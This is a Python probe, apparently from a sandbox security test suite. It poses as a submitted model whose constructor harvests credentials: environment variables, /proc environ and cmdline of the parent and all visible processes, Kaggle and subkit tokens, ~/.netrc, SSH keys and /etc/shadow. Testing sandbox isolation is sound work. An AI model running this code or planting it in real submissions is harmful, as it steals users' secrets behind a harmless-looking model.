"""Read every credential: the environment, the parent's /proc/<pid>/environ and command line
(subkit's, holding the token `subkit submit` uses), every visible process's, the user's
credential files (~/.kaggle/kaggle.json, subkit's saved token, ~/.netrc, ssh keys)."""

import glob
import os

import numpy as np

from attack_common import attempt, read, take, targets

T = targets()


class Model:
    def __init__(self):
        take("environ", dict(os.environ))
        take("pids", sorted(p for p in os.listdir("/proc") if p.isdigit()))
        attempt("ppid", os.getppid)
        for pid in [os.getppid(), 1] + T.get("pids", []):
            for what in ("environ", "cmdline"):
                attempt(f"/proc/{pid}/{what}", lambda p=pid, w=what: read(f"/proc/{p}/{w}"))
        for path in glob.glob("/proc/*/environ"):
            attempt(path, lambda p=path: read(p))
        for path in T["secret_files"] + ["~/.kaggle/kaggle.json", "~/.netrc", "~/.ssh/id_rsa",
                                         "~/.config/subkit/credentials.json", "/etc/shadow"]:
            attempt(path, lambda p=path: read(p))
        attempt("home_listing", lambda: os.listdir(T["home"]))

    def predict(self, X):
        return np.zeros(len(X), dtype=np.int64)
